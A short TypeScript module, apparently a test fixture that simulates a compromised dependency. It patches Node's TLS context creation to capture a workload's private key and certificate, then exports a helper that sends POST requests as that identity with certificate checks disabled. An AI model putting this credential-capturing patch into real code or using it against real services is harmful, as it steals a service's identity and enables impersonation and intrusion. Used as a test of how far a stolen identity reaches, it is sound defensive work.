// What a compromised dependency would do: it listens in on the process's own TLS connections until it has the key and the certificate
// of the workload, and calls with them whatever it likes.
import https from 'node:https'
import { syncBuiltinESMExports } from 'node:module'
import tls, { type SecureContextOptions } from 'node:tls'

let stolen: SecureContextOptions | undefined

const createSecureContext = tls.createSecureContext
tls.createSecureContext = (options) => {
  if (options?.key !== undefined && options.cert !== undefined) stolen = options
  return createSecureContext(options)
}
syncBuiltinESMExports()

/** POST with the stolen identity; the status, or why there is none. */
export function callAsMyself(address: string, operation: string, input: unknown): Promise<string> {
  const [host, port] = address.split(':')
  const place = host === 'unix' ? { socketPath: port } : { host, port }
  return new Promise((resolve) => {
    const { key, cert } = stolen ?? {}
    const request = https.request(
      {
        ...place,
        key,
        cert,
        path: `/${operation}`,
        method: 'POST',
        rejectUnauthorized: false,
        agent: false,
      },
      (response) => {
        response.resume()
        resolve(String(response.statusCode))
      },
    )
    request.setHeader('content-type', 'application/json')
    request.on('error', (error) => resolve(error.message))
    request.end(JSON.stringify(input))
  })
}
